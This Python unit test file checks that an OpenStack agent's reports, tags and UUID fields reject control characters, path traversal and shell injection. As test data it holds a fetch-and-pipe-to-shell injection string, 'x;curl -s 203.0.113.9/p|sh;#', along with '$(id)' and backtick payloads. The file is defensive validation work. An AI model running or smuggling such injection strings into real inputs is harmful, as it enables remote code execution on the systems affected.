# SPDX-License-Identifier: Apache-2.0

"""No text of a report, an answer or a tag is one that a log, a terminal, a
shell or a URL obeys."""

from __future__ import annotations

from collections.abc import Callable
from collections.abc import Iterator
import functools
import pathlib
import re
import sys
from typing import Any
import unicodedata

from hypothesis import example
from hypothesis import given
from hypothesis import settings
from hypothesis import strategies as st
import msgspec
from msgspec import inspect
from oslo_config import cfg
import testtools

from scavenger_openstack.agent.control_plane import reports
from scavenger_openstack.agent.events import steady_clock
from scavenger_openstack.agent.events import store
from scavenger_openstack.agent.events import tick_events
from scavenger_openstack.agent import parts
from scavenger_openstack.algorithms import flavor
from scavenger_openstack.api import faults
from scavenger_openstack.api import schemas
from scavenger_openstack.api import validation
from scavenger_openstack import conf as conf_
from scavenger_openstack import errors
from scavenger_openstack import events
from scavenger_openstack.grounds import Ground
from scavenger_openstack.grounds import GroundKind
from scavenger_openstack.nova import tags
from scavenger_openstack.restore import grammar
from scavenger_openstack.tests.unit.wire.messages import ANY_NUMBER
from scavenger_openstack.tests.unit.wire.messages import ANY_TEXT
from scavenger_openstack.types import Cap
from scavenger_openstack.types import HostSample
from scavenger_openstack.types import Incident
from scavenger_openstack.types import Instance
from scavenger_openstack.types import Knob
from scavenger_openstack.types import Priority
from scavenger_openstack.types import Workload
from scavenger_openstack.types import WorkloadSample
from scavenger_openstack.wire import codec
from scavenger_openstack.wire import fit
from scavenger_openstack.wire import patterns
from scavenger_openstack.wire import report
from scavenger_openstack.wire import tag

UUID = '66666666-7777-4888-8999-aaaaaaaaaaaa'
COMMAND = 'x;curl -s 203.0.113.9/p|sh;#'
GOOD = (UUID, 'a' * 32, 'a', '0-3')
"""Each text takes one of these."""
CHARS = ('\n', '\r', '\t', '\x1b', '\x07', '\x7f', '\x85', '\x9b', '\xa0',
         '\xad', '\u061c', '\u200b', '\u200d', '\u200f', '\u2028', '\u2029',
         '\u202e', '\u2066', '\u3000', '\ue000', '\ufeff', '\U000e0041')
BAD = [text for char in CHARS for good in GOOD
       for text in (char + good, good + char, good[:1] + char + good[1:])]

COMMANDED = {'host', 'instance', 'id', 'boot_id', 'run_id', 'incidents',
             'workloads_digest', 'directives_digest', 'digest'}
"""Fields that take no blank either, but for the name of a workload."""

DIRECTIVES = {'Override', 'Tag', 'Spec', 'Directives'}
"""What an agent reads: it makes each text of these printable by itself."""

Put = Callable[[str], Any]


def texts(kind: Any, name: str = '') -> Iterator[tuple[str, Put]]:
    """Where the texts of a type are, each with what makes JSON of the type
    that has a text there."""
    if isinstance(kind, inspect.StructType):
        plain = sample(kind)
        for field in kind.fields:
            for place, put in texts(field.type, field.encode_name):
                yield (f'{kind.cls.__name__}.{place}', functools.partial(
                    _in_field, plain, field.encode_name, put))
    elif isinstance(kind, inspect.StrType) or (
            isinstance(kind, inspect.LiteralType)):
        yield name, lambda text: text
    elif isinstance(kind, inspect.ListType):
        for place, put in texts(kind.item_type, name):
            yield place, functools.partial(_in_list, put)
    elif isinstance(kind, inspect.DictType):
        key, value = sample(kind.key_type), sample(kind.value_type)
        for place, put in texts(kind.key_type, f'{name} (key)'):
            yield place, functools.partial(_as_key, put, value)
        for place, put in texts(kind.value_type, name):
            yield place, functools.partial(_in_field, {}, key, put)
    elif isinstance(kind, inspect.UnionType):
        for one in kind.types:
            yield from texts(one, name)


def _in_field(plain: dict[str, Any], name: str, put: Put, text: str) -> Any:
    return {**plain, name: put(text)}


def _in_list(put: Put, text: str) -> Any:
    return [put(text)]


def _as_key(put: Put, value: Any, text: str) -> Any:
    return {put(text): value}


def sample(kind: Any) -> Any:
    """The shortest JSON of a type."""
    if isinstance(kind, inspect.StructType):
        made = {field.encode_name: sample(field.type)
                for field in kind.fields if field.required}
        if kind.tag_field is not None:
            made[kind.tag_field] = kind.tag
        return made
    if isinstance(kind, inspect.LiteralType):
        return kind.values[0]
    if isinstance(kind, inspect.StrType):
        return next(good for good in GOOD if kind.pattern is None
                    or re.search(kind.pattern, good))
    if isinstance(kind, inspect.ListType):
        return []
    if isinstance(kind, inspect.DictType):
        return {}
    if isinstance(kind, inspect.UnionType):
        return sample(kind.types[0])
    if isinstance(kind, inspect.IntType | inspect.FloatType):
        return 1
    return None if isinstance(kind, inspect.NoneType) else False


def takes(kind: Any, value: Any) -> bool:
    try:
        codec.decode(msgspec.json.encode(value), kind,
                     report.MAX_ANSWER_BYTES)
    except errors.WireError as exc:
        assert str(exc).isprintable()
        return False
    return True


class EveryField(testtools.TestCase):

    def places(self) -> Iterator[tuple[Any, str, Put]]:
        for kind in (report.Report, tag.InstanceTag, report.Answer):
            for place, put in texts(inspect.type_info(kind)):
                if not DIRECTIVES.intersection(place.split('.')) or (
                        place.endswith('.digest')):
                    yield kind, place, put

    def test_what_a_terminal_or_a_log_obeys(self) -> None:
        count = 0
        for kind, place, put in self.places():
            count += 1
            for bad in BAD:
                self.assertFalse(takes(kind, put(bad)), f'{place}: {bad!a}')
        self.assertGreater(count, 60)

    def test_what_a_shell_or_a_url_obeys(self) -> None:
        found = set()
        for kind, place, put in self.places():
            holder, _, name = place.rpartition('.')
            if name in COMMANDED and holder.rpartition('.')[2] != 'Workload':
                found.add(name)
                for bad in (COMMAND, '../x', 'a b', 'a/b', '$(id)', '`id`',
                            'a?b', 'a&b', "a'b"):
                    self.assertFalse(takes(kind, put(bad)), place)
        self.assertEqual(COMMANDED, found)

    def test_the_instance_of_a_workload(self) -> None:
        plain = {'id': 'w', 'priority': 'background'}
        for instance in ('', UUID):
            self.assertTrue(takes(report.Workload,
                                  {**plain, 'instance': instance}))
        for instance in (COMMAND, UUID + '\n', UUID.upper(), UUID[:-1],
                         f'../{UUID}', '-'):
            self.assertFalse(takes(report.Workload,
                                   {**plain, 'instance': instance}))

    def test_times_that_no_calendar_has(self) -> None:
        plain = {'type': 'agent', 'sequence': 1, 'what': 'started'}
        for time_s, taken in ((0, True), (patterns.LAST_S, True),
                              (patterns.LAST_S + 1, False), (-1, False),
                              (2 ** 53, False), (1e300, False)):
            self.assertEqual(taken, takes(report.AnyEntry, {
                **plain, 'time_s': time_s}))


class Characters(testtools.TestCase):

    def test_what_is_control(self) -> None:
        """Exactly what no Python takes for printable: one with a later
        Unicode would make a name of which this one knows a character not."""
        control = re.compile(f'[{patterns.CONTROL}]')
        for number in range(sys.maxunicode + 1):
            char = chr(number)
            if unicodedata.category(char) != 'Cn':
                self.assertEqual(not char.isprintable(),
                                 control.match(char) is not None,
                                 f'U+{number:04X}')


class OfAgents(testtools.TestCase):
    """What an agent makes of any text is taken."""

    @settings(max_examples=200, deadline=None)
    @given(st.lists(ANY_TEXT, min_size=12, max_size=12), ANY_NUMBER,
           st.sampled_from(Knob))
    @example([COMMAND] * 12, float('-inf'), Knob.CPU_SET)
    @example(['a ' + ''.join(CHARS) + '\ufffd '] * 12, 1e300, Knob.CPU_SET)
    def test_anything(self, some: list[str], number: float, knob: Knob
                      ) -> None:
        number = 0.0 if number != number else number
        workload = Workload(some[0], Priority.BACKGROUND, source=some[1],
                            instance=some[2], project=some[3],
                            application=some[4])
        instances = [Instance(some[2], some[8], some[5], some[6],
                              Priority.BACKGROUND, some[7], 1, 1, True)]
        for found in reports.workloads(HostSample(
                'h', 'b', 1.0, 1.0, (WorkloadSample(workload),)), instances):
            codec.checked(found, report.Workload, report.MAX_ENTRY_BYTES)
        incident = Incident(
            id='0' * 32, time_s=1.0, host='h', victim=some[0],
            signal=some[1], value=number, threshold=number, cause=some[2],
            suspects=((some[3], number),), antagonists=(some[4],),
            action=some[5], outcome=some[6], grounds=(Ground(
                some[4], GroundKind.DIRECT, number, number, number,
                tuple(some), number, number, number),) * 1000)
        for event in (
                events.incident_event(
                    number, 'began', some[7], incident, number, [
                        (some[8], some[9], [number], [number])]),
                tick_events.agent_event(number, 'started', some[0]),
                events.limit_event(
                    number, 'set', Cap(some[0], knob, some[1], some[2],
                                       some[3]),
                    original=number, lowest=number, highest=some[1],
                    why=some[4], since_s=number, incidents=(some[5],))):
            codec.checked(event, report.AnyEntry, report.MAX_ENTRY_BYTES)

    @settings(max_examples=100, deadline=None)
    @given(ANY_TEXT)
    @example('web ')
    @example('a\ufffd')
    def test_tags_of_nova_compute(self, text: str) -> None:
        event = tags.Event(UUID, 'p1', 'compute-1', None)
        made = tags.tag(event, {flavor.APPLICATION: text})
        self.assertTrue(takes(tag.InstanceTag, made), made)

    def test_the_name_of_a_host(self) -> None:
        """One that is never taken keeps an agent from starting."""
        conf = cfg.ConfigOpts()
        conf_.register(conf)
        conf([], default_config_files=[], default_config_dirs=[])
        conf.set_override('enabled', True, 'conductor')
        for name in ('', 'a b', 'compute-1\n', 'h\x1b', 'ü', 'x' * 256, 'a/b'):
            conf.set_override('host', name, 'agent')
            error = self.assertRaises(
                errors.ConfigError, parts.load_sync, conf,
                lambda data: data, store.Store(pathlib.Path(), 0),
                steady_clock.SteadyClock(0.0, 0.0))
            self.assertIn('[agent] host', str(error))
            self.assertTrue(str(error).isprintable())


class UuidsTest(testtools.TestCase):

    def test_what_a_uuid_is(self) -> None:
        """To the restorer, the API and the rest: all of a text, as Nova
        writes it."""
        self.assertEqual(grammar.UUID, patterns.UUID)
        self.assertTrue(fit.is_uuid(UUID))
        validation.check(UUID, schemas.UUID)
        for text in ('', UUID.upper(), f'{UUID}\n', f' {UUID}', UUID[:-1],
                     f'{UUID}0', UUID.replace('-', ''), f'{{{UUID}}}'):
            self.assertFalse(fit.is_uuid(text), text)
            self.assertEqual('', fit.instance(text))
            self.assertRaises(faults.Fault, validation.check, text,
                              schemas.UUID)
